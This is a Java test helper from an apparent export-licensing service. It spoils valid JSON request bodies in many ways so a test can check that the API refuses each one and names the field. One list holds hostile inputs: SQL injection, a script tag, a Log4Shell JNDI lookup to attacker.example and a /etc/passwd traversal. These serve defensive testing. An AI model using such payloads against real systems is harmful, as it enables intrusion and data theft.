package gov.commerce.aiexports.endtoend;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Set;

/**
 * Spoils a valid request body in every way a careless or hostile caller might: broken JSON, each
 * value of the wrong type, unknown and missing fields, an oversized body, invalid countries,
 * negative and absurd amounts, injection strings in identifiers and codes. Each spoiled body says
 * which field it spoiled, so the test can check that the refusal names it.
 */
final class BodyMutations {

    /**
     * One spoiled body: its kind (for the counts), the JSON pointer spoiled (null if the whole body),
     * the text sent, whether the refusal names exactly that pointer (else it may name the part that
     * holds it), and for an empty body, the required fields any one of which the refusal names.
     */
    record Mutation(String kind, String pointer, String body, boolean namesField, Set<String> anyOf) {

        Mutation(String kind, String pointer, String body, boolean namesField) {
            this(kind, pointer, body, namesField, Set.of());
        }
    }

    static final List<String> INJECTIONS = List.of("' OR '1'='1' --", "<script>alert(1)</script>", "${jndi:ldap://attacker.example/x}",
            "../../../../etc/passwd", "a\u0000b", "x".repeat(5_000));

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Set<String> COUNTRY_FIELDS = Set.of("country", "countryOfIncorporation", "controlledFrom", "countries");
    /** Prose that any text is valid for: injection strings there are stored as text, not refused; the sweep leaves them be. */
    private static final Set<String> FREE_TEXT = Set.of("title", "summary", "description", "businessModel", "justification", "reason",
            "text", "response", "terms", "reference", "notes", "modificationComment", "appropriationReference", "name", "legalName",
            "questions", "conditions", "secret", "domesticManufacturing", "suppliers", "source", "names", "narrative", "note", "unit");

    private BodyMutations() {
    }

    static List<Mutation> of(Map<String, Object> valid, Set<String> optional) {
        ObjectNode base = JSON.valueToTree(valid);
        List<Mutation> out = new ArrayList<>();
        String text = base.toString();
        for (String broken : List.of("{", "{\"a\":}", "not json", "[]", "\"text\"", "42", "null", "", text + "}", text + " {}",
                text.substring(0, text.length() / 2))) {
            out.add(new Mutation("malformed JSON", null, broken, false));
        }
        String first = base.fieldNames().next();
        out.add(new Mutation("duplicate key", null, "{\"" + first + "\":" + base.get(first) + "," + text.substring(1), false));
        Set<String> required = new java.util.TreeSet<>();
        for (String field : iterable(base.fieldNames())) {
            if (!optional.contains(field)) {
                required.add("/" + field);
                out.add(spoil("missing field", base, "/" + field, null, false));
                out.add(spoil("missing field", base, "/" + field, n -> NODES.nullNode(), false));
            }
        }
        if (!required.isEmpty()) {
            // with every field optional, an empty body is a valid one: no case
            out.add(new Mutation("missing field", null, "{}", false, Set.copyOf(required)));
        }
        walk(base, "", (pointer, node) -> {
            for (JsonNode wrong : wrongTypes(node)) {
                out.add(spoil("wrong type", base, pointer, n -> wrong, true));
            }
            if (node.isObject()) {
                String unknown = pointer + "/unexpectedField";
                out.add(spoil("unknown field", base, unknown, n -> NODES.numberNode(1), true));
            }
            String name = lastName(pointer);
            if (COUNTRY_FIELDS.contains(name) && node.isTextual()) {
                for (String bad : List.of("XX", "usa", "", "U1")) {
                    out.add(spoil("invalid country", base, pointer, n -> NODES.textNode(bad), false));
                }
            } else if (node.isNumber()) {
                // a millionth is a valid percentage, but no amount in dollars and no count or year
                List<String> bad = name.endsWith("Percent") ? List.of("-1", "1000000000000000", "1E+300")
                        : List.of("-1", "1000000000000000", "1E+300", "0.000001");
                for (String b : bad) {
                    out.add(spoil("negative or absurd amount", base, pointer, n -> NODES.numberNode(new BigDecimal(b)), false));
                }
            } else if (node.isTextual() && !FREE_TEXT.contains(name)) {
                for (String injection : INJECTIONS) {
                    out.add(spoil("injection string", base, pointer, n -> NODES.textNode(injection), false));
                }
            }
        });
        ObjectNode huge = base.deepCopy();
        huge.put("padding", "x".repeat(1_500_000));
        out.add(new Mutation("oversized body", null, huge.toString(), false));
        return out;
    }

    /** Visits every value below the root, depth first, with its JSON pointer. */
    private static void walk(JsonNode node, String pointer, java.util.function.BiConsumer<String, JsonNode> visit) {
        if (!pointer.isEmpty()) {
            visit.accept(pointer, node);
        }
        if (node.isObject()) {
            node.fields().forEachRemaining(e -> walk(e.getValue(), pointer + "/" + e.getKey(), visit));
        } else if (node.isArray()) {
            for (int k = 0; k < node.size(); k++) {
                walk(node.get(k), pointer + "/" + k, visit);
            }
        }
    }

    private static List<JsonNode> wrongTypes(JsonNode node) {
        if (node.isTextual()) {
            return List.of(NODES.numberNode(12345), NODES.booleanNode(true), NODES.objectNode(), NODES.arrayNode());
        }
        if (node.isNumber()) {
            return List.of(NODES.textNode("abc"), NODES.booleanNode(true), NODES.arrayNode(), NODES.objectNode());
        }
        if (node.isBoolean()) {
            return List.of(NODES.textNode("yes"), NODES.numberNode(1));
        }
        if (node.isArray()) {
            return List.of(NODES.textNode("abc"), NODES.objectNode(), NODES.numberNode(7));
        }
        if (node.isObject()) {
            return List.of(NODES.textNode("abc"), NODES.arrayNode(), NODES.numberNode(7));
        }
        return List.of();
    }

    /** A copy of the base with the value at the pointer replaced (or removed, when replace is null). */
    private static Mutation spoil(String kind, ObjectNode base, String pointer, java.util.function.UnaryOperator<JsonNode> replace,
            boolean namesField) {
        ObjectNode copy = base.deepCopy();
        int cut = pointer.lastIndexOf('/');
        JsonNode parent = cut == 0 ? copy : copy.at(pointer.substring(0, cut));
        String last = pointer.substring(cut + 1);
        if (parent instanceof ObjectNode object) {
            if (replace == null) {
                object.remove(last);
            } else {
                object.set(last, replace.apply(object.get(last)));
            }
        } else if (parent instanceof ArrayNode array) {
            array.set(Integer.parseInt(last), replace.apply(array.get(Integer.parseInt(last))));
        }
        return new Mutation(kind, pointer, copy.toString(), namesField);
    }

    /** The name a value is known by: its field, or for an array element the array's field. */
    private static String lastName(String pointer) {
        String[] parts = pointer.split("/");
        for (int k = parts.length - 1; k > 0; k--) {
            if (!parts[k].chars().allMatch(Character::isDigit)) {
                return parts[k];
            }
        }
        return "";
    }

    private static <T> Iterable<T> iterable(Iterator<T> it) {
        List<T> all = new ArrayList<>();
        it.forEachRemaining(all::add);
        return all;
    }

}
